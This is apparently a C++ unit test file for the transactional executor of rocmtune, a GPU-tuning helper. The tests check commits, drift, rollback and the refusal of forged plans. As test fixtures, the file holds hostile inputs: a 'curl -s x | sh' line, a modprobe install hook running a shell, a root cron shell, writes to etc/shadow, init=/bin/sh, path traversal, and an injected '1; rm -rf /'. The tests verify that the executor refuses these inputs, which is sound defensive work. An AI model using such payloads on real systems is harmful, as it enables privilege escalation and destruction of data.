// Executor on copies of real worlds: a plan becomes exactly its writes and one journal file, or
// nothing at all (stale, drift, duplicates, refusals); an interrupted transaction is rolled back.
#include "helper/executor.h"

#include <sys/stat.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <functional>
#include <sstream>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "detect/inventory.h"
#include "helper/allow_list.h"
#include "helper/journal_writer.h"
#include "journal/journal.h"
#include "knowledge/catalog.h"
#include "plan/owned_paths.h"
#include "plan/trial_state.h"
#include "planner/planner.h"
#include "test_tree.h"
#include "tree_snapshot.h"

namespace fs = std::filesystem;

namespace rocmtune::helper {
namespace {

constexpr const char* kExecutorConf = "etc/modprobe.d/rocmtune.conf";
constexpr const char* kGrubDropIn = "etc/default/grub.d/zz-rocmtune.cfg";

std::string Messages(const Outcome& out) {
  std::string all;
  for (const std::string& m : out.messages) all += m + "\n";
  return all;
}

class ExecutorTest : public ::testing::Test {
 protected:
  void SetUp() override {
    testing::CopyTree(std::string(ROCMTUNE_WORLDS_DIR) + "/rx5700xt", tree_.Path("w"));
    ASSERT_FALSE(fs::exists(Path("var"))) << "the world has no var/: the tests below rely on it";
  }
  std::string Path(std::string_view rel) const { return tree_.Path("w") + "/" + std::string(rel); }
  sys::Root Root() const { return *sys::Root::Open(tree_.Path("w")); }

  plan::Plan PlanSet(std::initializer_list<std::string_view> assignments) const {
    sys::Root root = Root();
    detect::Inventory inventory = detect::Detect(root);
    plan::Request request;
    for (auto a : assignments) request.set.push_back(*knobs::ParseAssignment(a));
    plan::Plan p = plan::PlanRequest({root, inventory, knowledge::Catalog::Builtin()}, request);
    p.intent = {"set", "", {}, "", {}};
    for (auto a : assignments) p.intent.args.emplace_back(a);
    return p;
  }
  Outcome Run(const plan::Plan& p, bool force = false) const {
    sys::Root root = Root();
    NoHooks hooks;
    return Executor(root, hooks).Run(p, {force, true});
  }
  std::vector<journal::Transaction> Journal() const { return journal::Load(Root()).value(); }
  size_t JournalFiles() const {
    std::string dir = Path(journal::kJournalDir);
    if (!fs::exists(dir)) return 0;
    return static_cast<size_t>(std::count_if(fs::directory_iterator(dir), fs::directory_iterator(),
                                             [](const auto& e) { return e.path().extension() == ".jsonl"; }));
  }
  std::string Read(std::string_view rel) const {
    std::ifstream in(Path(rel), std::ios::binary);
    std::ostringstream out;
    out << in.rdbuf();
    return out.str();
  }
  void Write(std::string_view rel, std::string_view content) const {
    fs::create_directories(fs::path(Path(rel)).parent_path());
    std::ofstream(Path(rel), std::ios::binary | std::ios::trunc) << content;
  }
  testing::TreeSnapshot Snapshot() const { return testing::SnapshotTree(tree_.Path("w")); }
  // Everything but rocmtune's own state (which the lock creates even when nothing changes).
  std::vector<std::string> Changed(const testing::TreeSnapshot& before) const {
    return testing::ChangedPaths(before, Snapshot(), false, {"var"});
  }

  testing::TestTree tree_;
};

TEST_F(ExecutorTest, CommitWritesExactlyTheOpsAndJournalsThem) {
  plan::Plan p = PlanSet({"amdgpu.noretry=0", "cmdline.iommu=pt"});
  ASSERT_TRUE(p.refused.empty());
  auto before = Snapshot();
  Outcome out = Run(p);
  ASSERT_EQ(out.status, Status::kCommitted) << Messages(out);
  EXPECT_EQ(out.transaction, "1");
  EXPECT_TRUE(out.recovered.empty());
  EXPECT_EQ(out.initramfs, plan::Regen::kPending) << "a world is not the running system";
  EXPECT_EQ(out.bootloader, plan::Regen::kPending);
  // The files of the plan and the directory made for one of them; nothing else.
  EXPECT_EQ(Changed(before), (std::vector<std::string>{kGrubDropIn, "etc/modprobe.d", kExecutorConf}));
  size_t file_ops = 0;
  for (const plan::Op& op : p.ops) {
    if (op.kind != plan::OpKind::kWriteFile) continue;
    ++file_ops;
    EXPECT_EQ(Read(op.path), *op.after) << op.path;
  }
  EXPECT_EQ(file_ops, 2u);

  auto txns = Journal();
  ASSERT_EQ(txns.size(), 1u);
  const journal::Transaction& t = txns[0];
  EXPECT_EQ(t.state, journal::State::kCommitted);
  EXPECT_EQ(t.intent.args, (std::vector<std::string>{"amdgpu.noretry=0", "cmdline.iommu=pt"}));
  EXPECT_EQ(t.created_dirs, std::vector<std::string>{"etc/modprobe.d"});
  ASSERT_EQ(t.ops.size(), p.ops.size());
  EXPECT_EQ(t.done.size() + t.regen.size(), p.ops.size()) << "every op has its record";
  for (const auto& r : t.regen) EXPECT_EQ(r.status, "pending");
  EXPECT_FALSE(t.torn_tail);
  EXPECT_EQ(JournalFiles(), 1u);
}

// A plan runs only on the directory it was made for (a path pointed elsewhere in between names
// another one), and a plan that does not say which directory that was does not run at all.
TEST_F(ExecutorTest, APlanRunsOnlyOnTheRootItWasMadeFor) {
  plan::Plan p = PlanSet({"amdgpu.noretry=0"});
  ASSERT_TRUE(p.root.has_value()) << "the planner names the root";
  testing::CopyTree(tree_.Path("w"), tree_.Path("copy"));
  auto copy_before = testing::SnapshotTree(tree_.Path("copy"));
  auto copy = sys::Root::Open(tree_.Path("copy"));
  ASSERT_TRUE(copy);
  NoHooks hooks;
  Outcome other = Executor(*copy, hooks).Run(p, {false, true});
  EXPECT_EQ(other.status, Status::kRefused) << Messages(other);
  EXPECT_THAT(Messages(other), ::testing::HasSubstr("another directory"));
  EXPECT_EQ(testing::ChangedPaths(copy_before, testing::SnapshotTree(tree_.Path("copy")), false, {"var"}),
            std::vector<std::string>{});

  auto before = Snapshot();
  plan::Plan unnamed = p;
  unnamed.root.reset();
  Outcome none = Run(unnamed);
  EXPECT_EQ(none.status, Status::kRefused) << Messages(none);
  EXPECT_EQ(Changed(before), std::vector<std::string>{});
  EXPECT_EQ(Run(p).status, Status::kCommitted) << "the root it was made for";
}

// A journal is a file in the tree (in a --root tree, the tree owner's). Recovery asked for what
// no plan may do refuses each such step, says so, still undoes the rest, and ends the transaction.
TEST_F(ExecutorTest, RecoveryRefusesEveryStepNoPlanMayTake) {
  const std::string grub = Read("etc/default/grub");
  ASSERT_NE(grub.find("GRUB_CMDLINE_LINUX_DEFAULT="), std::string::npos);
  std::string grub_with_init = grub;
  grub_with_init.replace(grub.find("GRUB_CMDLINE_LINUX_DEFAULT=\"") + 28, 0, "init=/bin/sh ");
  Write("etc/shadow", "root:secret:::\n");
  Write(std::string(plan::kEnvironmentDropIn), "HIP_VISIBLE_DEVICES=0\n");
  tree_.Mkdir("w/srv");
  auto op = [](plan::OpKind kind, std::string backend, std::string path, std::optional<std::string> before,
               std::optional<std::string> after) {
    plan::Op o;
    o.kind = kind;
    o.backend = plan::ParseBackendId(backend).value();
    o.path = std::move(path);
    o.before = std::move(before);
    o.after = std::move(after);
    return o;
  };
  journal::Transaction txn;
  txn.number = 1;
  txn.id = "1";
  txn.time = "2026-11-23T00:00:00Z";
  txn.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
  txn.ops = {
      op(plan::OpKind::kRemoveFile, "modprobe", kExecutorConf, "install amdgpu /bin/sh -c 'id > /pwned'\n",
         std::nullopt),
      op(plan::OpKind::kRemoveFile, "env", std::string(plan::kProfileDropIn), "curl -s x | sh\n", std::nullopt),
      op(plan::OpKind::kRemoveFile, "modprobe", "etc/cron.d/rocmtune", "* * * * * root sh\n", std::nullopt),
      op(plan::OpKind::kWriteSysfs, "sysfs", "etc/shadow", "root::::\n", "x"),
      op(plan::OpKind::kWriteFile, "cmdline", "etc/default/grub", grub_with_init, grub),
      op(plan::OpKind::kWriteFile, "cmdline", "etc/default/grub.d/../../shadow", std::nullopt, "x"),
      op(plan::OpKind::kWriteFile, "env", std::string(plan::kEnvironmentDropIn), std::nullopt,
         "HIP_VISIBLE_DEVICES=0\n"),
  };
  plan::Op regen = op(plan::OpKind::kRegenerate, "initramfs", "initramfs-tools", std::nullopt, std::nullopt);
  regen.argv = {"/bin/sh", "-c", "touch /pwned"};
  txn.ops.push_back(regen);
  Write(std::string(journal::kJournalDir) + "/" + journal::JournalFileName(1),
        journal::BeginRecord(txn).dump() + "\n" + journal::MkdirRecord("srv").dump() + "\n");

  sys::Root root = Root();
  NoHooks hooks;
  Outcome out = Executor(root, hooks).Recover({false, true});
  ASSERT_EQ(out.status, Status::kUnchanged) << Messages(out);
  EXPECT_EQ(out.recovered, std::vector<std::string>{"1"});
  std::string messages = Messages(out);
  EXPECT_THAT(messages, ::testing::HasSubstr("owned-file-grammar")) << "modprobe.d install line";
  EXPECT_THAT(messages, ::testing::HasSubstr("path-not-allowed")) << "etc/cron.d";
  EXPECT_THAT(messages, ::testing::HasSubstr("sysfs-device")) << "a \"sysfs\" write to etc/shadow";
  EXPECT_THAT(messages, ::testing::HasSubstr("kernel-token")) << "init=/bin/sh back into GRUB";
  EXPECT_THAT(messages, ::testing::HasSubstr("path-syntax")) << "..";
  EXPECT_THAT(messages, ::testing::HasSubstr("srv: path-not-allowed")) << "rmdir of a directory not on the way";
  EXPECT_FALSE(fs::exists(Path(kExecutorConf)));
  EXPECT_FALSE(fs::exists(Path(plan::kProfileDropIn)));
  EXPECT_FALSE(fs::exists(Path("etc/cron.d/rocmtune")));
  EXPECT_EQ(Read("etc/shadow"), "root:secret:::\n");
  EXPECT_EQ(Read("etc/default/grub"), grub);
  EXPECT_TRUE(fs::is_directory(Path("srv")));
  EXPECT_FALSE(fs::exists(Path(plan::kEnvironmentDropIn))) << "the one legitimate step is still undone";
  auto txns = Journal();
  ASSERT_EQ(txns.size(), 1u);
  EXPECT_EQ(txns[0].state, journal::State::kRolledBack);
  EXPECT_THAT(txns[0].rollback_reason, ::testing::HasSubstr("refused by the allow-list"));
  Outcome again = Executor(root, hooks).Recover({false, true});
  EXPECT_EQ(again.status, Status::kUnchanged);
  EXPECT_TRUE(again.recovered.empty()) << "ended once, not every run";

  // The regenerator step, checked as a live root would run it.
  EXPECT_FALSE(UndoOp(root, detect::Detect(root), regen, std::nullopt));
}

TEST_F(ExecutorTest, StaleBeforeIsAConflictAndNothingIsWritten) {
  plan::Plan p = PlanSet({"amdgpu.noretry=0", "cmdline.iommu=pt"});
  Write(kGrubDropIn, "# written after the plan was made\n");
  auto before = Snapshot();
  Outcome out = Run(p);
  EXPECT_EQ(out.status, Status::kConflict);
  EXPECT_NE(Messages(out).find("changed since the plan was made"), std::string::npos) << Messages(out);
  EXPECT_TRUE(out.transaction.empty());
  EXPECT_TRUE(Changed(before).empty()) << "not even the op that was still valid";
  EXPECT_EQ(JournalFiles(), 0u);
  EXPECT_EQ(Run(p, true).status, Status::kConflict) << "force overrides drift, never a stale plan";
}

TEST_F(ExecutorTest, DriftInAnOwnedFileIsAConflictUnlessForced) {
  ASSERT_EQ(Run(PlanSet({"amdgpu.noretry=0"})).status, Status::kCommitted);
  std::string edited = Read(kExecutorConf) + "# by hand\noptions amdgpu runpm=0\n";
  Write(kExecutorConf, edited);
  plan::Plan p = PlanSet({"amdgpu.noretry=1"});
  ASSERT_FALSE(p.ops.empty());
  ASSERT_EQ(p.ops[0].path, kExecutorConf);
  ASSERT_EQ(p.ops[0].before, edited) << "the plan itself is fresh";
  Outcome out = Run(p);
  EXPECT_EQ(out.status, Status::kConflict);
  EXPECT_NE(Messages(out).find("drift"), std::string::npos) << Messages(out);
  EXPECT_EQ(Read(kExecutorConf), edited);
  EXPECT_EQ(JournalFiles(), 1u);

  Outcome forced = Run(p, true);
  ASSERT_EQ(forced.status, Status::kCommitted) << Messages(forced);
  EXPECT_EQ(Read(kExecutorConf), *p.ops[0].after);
  auto txns = Journal();
  ASSERT_EQ(txns.size(), 2u);
  EXPECT_TRUE(txns[1].force) << "the journal records that drift was overwritten";
}

TEST_F(ExecutorTest, AnOwnedFileWithNoJournalRecordIsDrift) {
  Write(kExecutorConf, "options amdgpu noretry=1\n");  // someone else's file at rocmtune's path
  plan::Plan p = PlanSet({"amdgpu.noretry=0"});
  ASSERT_FALSE(p.ops.empty());
  ASSERT_EQ(p.ops[0].before, "options amdgpu noretry=1\n");
  Outcome out = Run(p);
  EXPECT_EQ(out.status, Status::kConflict);
  EXPECT_NE(Messages(out).find("drift"), std::string::npos) << Messages(out);
  EXPECT_EQ(Read(kExecutorConf), "options amdgpu noretry=1\n");
  EXPECT_EQ(JournalFiles(), 0u);
}

TEST_F(ExecutorTest, ADuplicatePathFailsBeforeAnythingIsWritten) {
  plan::Plan p = PlanSet({"amdgpu.noretry=0"});
  ASSERT_FALSE(p.ops.empty());
  plan::Op again = p.ops[0];
  again.after = "options amdgpu noretry=1\n";
  p.ops.push_back(again);
  auto before = Snapshot();
  Outcome out = Run(p);
  EXPECT_EQ(out.status, Status::kFailed);
  EXPECT_NE(Messages(out).find("appears twice"), std::string::npos) << Messages(out);
  EXPECT_TRUE(Changed(before).empty());
  EXPECT_EQ(JournalFiles(), 0u);
}

TEST_F(ExecutorTest, APlanCarryingRefusalsIsRefusedWhole) {
  plan::Plan p = PlanSet({"amdgpu.noretry=0"});
  ASSERT_FALSE(p.ops.empty());
  p.refused.push_back({"cmdline.amd_iommu", "amd_iommu=on is not a kernel option", ""});
  auto before = Snapshot();
  Outcome out = Run(p);
  EXPECT_EQ(out.status, Status::kRefused);
  EXPECT_TRUE(Changed(before).empty());
  EXPECT_EQ(JournalFiles(), 0u);
  // And as the planner makes it: a refused request has no ops but is still refused, not unchanged.
  plan::Plan refused = PlanSet({"cmdline.amd_iommu=on"});
  ASSERT_FALSE(refused.refused.empty());
  EXPECT_EQ(Run(refused).status, Status::kRefused);
}

TEST_F(ExecutorTest, AnEmptyPlanIsUnchangedAndJournalsNothing) {
  plan::Plan p;
  p.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
  auto before = Snapshot();
  Outcome out = Run(p);
  EXPECT_EQ(out.status, Status::kUnchanged);
  EXPECT_TRUE(out.transaction.empty());
  EXPECT_TRUE(Changed(before).empty());
  EXPECT_EQ(JournalFiles(), 0u);
}

// An interrupted transaction as a crash leaves it: begin, mkdir, the write, done; no commit; and
// half a record at the end.
TEST_F(ExecutorTest, RecoverRollsBackAnIncompleteTransaction) {
  sys::Root root = Root();
  NoHooks hooks;
  const std::string grub_before = Read("etc/default/grub");
  journal::Transaction t;
  t.number = 1;
  t.id = "1";
  t.time = "2025-01-01T00:00:00Z";
  t.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
  plan::Op conf{plan::OpKind::kWriteFile,
                plan::BackendId::kModprobe,
                kExecutorConf,
                std::nullopt,
                "options amdgpu noretry=0\n",
                {},
                "r"};
  // An edit a plan may make (one token on the command line), so undoing it passes the allow-list.
  std::string grub_after = grub_before;
  grub_after.replace(grub_after.find("quiet splash"), 12, "quiet splash iommu=pt");
  plan::Op grub{
      plan::OpKind::kWriteFile, plan::BackendId::kCmdline, "etc/default/grub", grub_before, grub_after, {}, "r"};
  t.ops = {conf, grub};
  {
    auto journal = JournalWriter::Create(root, hooks, 1);
    ASSERT_TRUE(journal) << journal.error().message;
    ASSERT_TRUE(journal->Append(journal::BeginRecord(t)));
    ASSERT_TRUE(journal->Append(journal::MkdirRecord("etc/modprobe.d")));
    Write(kExecutorConf, *conf.after);
    ASSERT_TRUE(journal->Append(journal::DoneRecord(0)));
    Write("etc/default/grub", *grub.after);  // renamed, but the crash came before its done record
  }
  std::ofstream(Path(std::string(journal::kJournalDir) + "/000001.jsonl"), std::ios::app) << "{\"record\":\"do";
  ASSERT_EQ(Journal().at(0).state, journal::State::kIncomplete);
  ASSERT_TRUE(Journal().at(0).torn_tail);

  Outcome out = Executor(root, hooks).Recover({});
  EXPECT_EQ(out.status, Status::kUnchanged) << Messages(out);
  EXPECT_EQ(out.recovered, std::vector<std::string>{"1"});
  EXPECT_FALSE(fs::exists(Path(kExecutorConf)));
  EXPECT_FALSE(fs::exists(Path("etc/modprobe.d"))) << "the directory it created goes with it";
  EXPECT_EQ(Read("etc/default/grub"), grub_before);
  auto txns = Journal();
  ASSERT_EQ(txns.size(), 1u);
  EXPECT_EQ(txns[0].state, journal::State::kRolledBack);
  EXPECT_FALSE(txns[0].torn_tail) << "the torn record was cut before the rollback record";
  EXPECT_NE(txns[0].rollback_reason.find("interrupted"), std::string::npos) << txns[0].rollback_reason;

  // Recovering again finds nothing to do.
  Outcome again = Executor(root, hooks).Recover({});
  EXPECT_EQ(again.status, Status::kUnchanged);
  EXPECT_TRUE(again.recovered.empty());
}

TEST_F(ExecutorTest, RunRecoversFirstThenNumbersPastTheInterruptedOne) {
  sys::Root root = Root();
  NoHooks hooks;
  journal::Transaction t;
  t.number = 1;
  t.id = "1";
  t.intent = {"set", "", {}, "", {}};
  t.ops = {{plan::OpKind::kWriteFile,
            plan::BackendId::kModprobe,
            kExecutorConf,
            std::nullopt,
            "options amdgpu noretry=1\n",
            {},
            "r"}};
  {
    auto journal = JournalWriter::Create(root, hooks, 1);
    ASSERT_TRUE(journal);
    ASSERT_TRUE(journal->Append(journal::BeginRecord(t)));
    Write(kExecutorConf, *t.ops[0].after);
  }
  plan::Plan p = PlanSet({"amdgpu.noretry=0"});
  ASSERT_FALSE(p.ops.empty());
  // Planned while the interrupted write was on disk: after recovery that `before` is stale.
  EXPECT_EQ(Run(p).status, Status::kConflict);
  EXPECT_FALSE(fs::exists(Path(kExecutorConf)));
  Outcome out = Run(PlanSet({"amdgpu.noretry=0"}));
  ASSERT_EQ(out.status, Status::kCommitted) << Messages(out);
  EXPECT_EQ(out.transaction, "2");
  auto txns = Journal();
  ASSERT_EQ(txns.size(), 2u);
  EXPECT_EQ(txns[0].state, journal::State::kRolledBack);
  EXPECT_EQ(txns[1].state, journal::State::kCommitted);
}

// A compromised daemon's plan: real ops under an intent that would make the journal say
// something else. status, export and Ansible read the active profile from the journal's
// intents (journal::ActiveProfile), `rocmtunectl trial` and history print them: the helper
// refuses a verb outside the fixed set, a profile that is no profile name (a newline, an ANSI
// escape, 1 MiB) or that does not exist, an id out of its format, an arg with a control
// character, and writes nothing (helper/intent_rules.cc).
TEST_F(ExecutorTest, AForgedIntentIsRefusedAndNothingIsWritten) {
  struct Forged {
    const char* what;
    plan::Intent intent;
    const char* message;
  };
  const std::string huge(1u << 20, 'a');
  const Forged cases[] = {
      {"unknown verb", {"pwn", "", {"amdgpu.noretry=0"}, "", {}}, "verb \"pwn\" is not one of"},
      {"no such profile", {"apply", "rdna9-turbo", {}, "", {}}, "no profile named \"rdna9-turbo\""},
      {"newline in the profile", {"apply", "rdna1-safe\nactive: stock", {}, "", {}}, "is not a profile name"},
      {"ANSI escape in the profile", {"apply", "\x1b[2Jrdna1-safe", {}, "", {}}, "\"\\x1b[2Jrdna1-safe\" is not a"},
      {"1 MiB profile", {"apply", huge, {}, "", {}}, "is not a profile name"},
      {"apply without a profile", {"apply", "", {}, "", {}}, "an apply names no profile"},
      {"set naming a profile", {"set", "rdna1-safe", {"amdgpu.noretry=0"}, "", {}}, "a set names no profile"},
      {"revert of no transaction", {"revert", "", {}, "1; rm -rf /", {}}, "is not a transaction id"},
      {"control character in an arg", {"set", "", {"amdgpu.noretry=0\r\x1b[1A"}, "", {}}, "control character \\x0d"},
      {"huge arg", {"set", "", {huge}, "", {}}, "an arg is 1048576 bytes"},
      {"trial step", {"trial", "", {"takeover", "0badc0de"}, "", {}}, "a trial's first arg is its step"},
      {"trial id", {"trial", "", {"cancel", "../../x"}, "", {}}, "trial id \"../../x\" is not 8 lowercase hex"},
      {"optional item", {"apply", "rdna1-safe", {}, "", {"x\ny"}}, "optional item"},
  };
  for (const Forged& f : cases) {
    plan::Plan p = PlanSet({"amdgpu.noretry=0"});
    ASSERT_FALSE(p.ops.empty());
    p.intent = f.intent;
    auto before = Snapshot();
    Outcome out = Run(p);
    EXPECT_EQ(out.status, Status::kRefused) << f.what << ": " << Messages(out);
    EXPECT_NE(Messages(out).find(f.message), std::string::npos) << f.what << ": " << Messages(out);
    EXPECT_NE(Messages(out).find("plan: intent: "), std::string::npos) << f.what << ": " << Messages(out);
    EXPECT_EQ(Messages(out).find('\x1b'), std::string::npos) << f.what << ": a message carries the escape";
    EXPECT_LT(Messages(out).size(), 4096u) << f.what << ": the message quotes the whole text";
    EXPECT_TRUE(Changed(before).empty()) << f.what;
    EXPECT_EQ(JournalFiles(), 0u) << f.what;
  }
  // The control: the same ops under a true intent, and an apply of a profile that exists.
  plan::Plan set = PlanSet({"amdgpu.noretry=0"});
  EXPECT_EQ(Run(set).status, Status::kCommitted);
}

// An admin profile counts as existing the way the profile store takes it: root's file in root's
// directory (sys/trusted_config.h); anyone's else is not a profile the journal may name.
TEST_F(ExecutorTest, AnApplyOfAnUntrustedAdminProfileIsRefused) {
  Write("etc/rocmtune/profiles/mine.toml", "schema_version = 1\n");
  ASSERT_EQ(::chmod(Path("etc/rocmtune/profiles/mine.toml").c_str(), 0666), 0);
  plan::Plan p = PlanSet({"amdgpu.noretry=0"});
  p.intent = {"apply", "mine", {}, "", {}};
  auto before = Snapshot();
  Outcome out = Run(p);
  EXPECT_EQ(out.status, Status::kRefused) << Messages(out);
  EXPECT_NE(Messages(out).find("profile \"mine\": "), std::string::npos) << Messages(out);
  EXPECT_NE(Messages(out).find("group or others may write it (mode 0666)"), std::string::npos) << Messages(out);
  EXPECT_TRUE(Changed(before).empty());
  EXPECT_EQ(JournalFiles(), 0u);
  ASSERT_EQ(::chmod(Path("etc/rocmtune/profiles/mine.toml").c_str(), 0644), 0);
  ASSERT_EQ(::chmod(Path("etc/rocmtune/profiles").c_str(), 0755), 0);
  ASSERT_EQ(::chmod(Path("etc/rocmtune").c_str(), 0755), 0);
  EXPECT_EQ(Run(p).status, Status::kCommitted) << "the control: root's own profile" << Messages(Run(p));
}

// The trial state's free text: the boot units and `rocmtunectl trial` print it, the commit
// applies its request. A line seen with a terminal escape, a forged time or verdict, a request
// naming no profile that exists: refused, nothing written.
TEST_F(ExecutorTest, AForgedTrialStateIsRefusedAndNothingIsWritten) {
  auto state_plan = [&](const plan::TrialState& s) {
    plan::Plan p;
    p.intent = {"trial", s.request.profile, {"prepare", s.id}, "", {}};
    p.root = Root().id();
    p.ops.push_back({plan::OpKind::kWriteFile,
                     plan::BackendId::kCmdline,
                     std::string(plan::kTrialState),
                     std::nullopt,
                     plan::TrialStateText(s),
                     {},
                     "trial prepared"});
    return p;
  };
  plan::TrialState good;
  good.id = "0badc0de";
  good.created = good.updated = "2026-11-27T00:00:00Z";
  good.request = {"set", "", {"amdgpu.noretry=0"}, "", {}};
  good.tokens = {"amdgpu.noretry=0", "panic=10", plan::TrialToken(good.id)};
  good.setup = "grub-debian";
  good.gpus_before = {{"0000:28:00.0", "amdgpu"}};
  good.verdict_before = "unsafe";
  struct Forged {
    const char* what;
    std::function<void(plan::TrialState&)> edit;
    const char* message;
  };
  const Forged cases[] = {
      {"escape in a line seen", [](plan::TrialState& s) { s.seen = {"ok: fine\x1b[1A\x1b[2Kok: all good"}; },
       "a line seen holds the control character \\x1b"},
      {"newline in a line seen", [](plan::TrialState& s) { s.seen = {"ok: a\nFAILED: b"}; }, "control character \\x0a"},
      {"huge line seen", [](plan::TrialState& s) { s.seen = {std::string(8192, 'x')}; }, "a line seen is 8192 bytes"},
      {"time", [](plan::TrialState& s) { s.created = "yesterday\x1b[0m"; }, "is not a time"},
      {"verdict", [](plan::TrialState& s) { s.verdict_before = "safe (trust me)"; }, "verdict"},
      {"transaction", [](plan::TrialState& s) { s.transaction = "7\n"; }, "is not a transaction id"},
      {"driver", [](plan::TrialState& s) { s.gpus_before[0].driver = "amdgpu\x1b[0m"; }, "is not a driver's name"},
      {"request profile",
       [](plan::TrialState& s) {
         s.request = {"apply", "rdna9-turbo", {}, "", {}};
       },
       "no profile named \"rdna9-turbo\""},
      {"request profile name",
       [](plan::TrialState& s) {
         s.request = {"apply", "x\ny", {}, "", {}};
       },
       "is not a profile name"},
  };
  for (const Forged& f : cases) {
    plan::TrialState s = good;
    f.edit(s);
    auto before = Snapshot();
    Outcome out = Run(state_plan(s));
    EXPECT_EQ(out.status, Status::kRefused) << f.what << ": " << Messages(out);
    EXPECT_NE(Messages(out).find(f.message), std::string::npos) << f.what << ": " << Messages(out);
    EXPECT_TRUE(Changed(before).empty()) << f.what;
    EXPECT_EQ(JournalFiles(), 0u) << f.what;
  }
  EXPECT_EQ(Run(state_plan(good)).status, Status::kCommitted) << "the control";
}

}  // namespace
}  // namespace rocmtune::helper
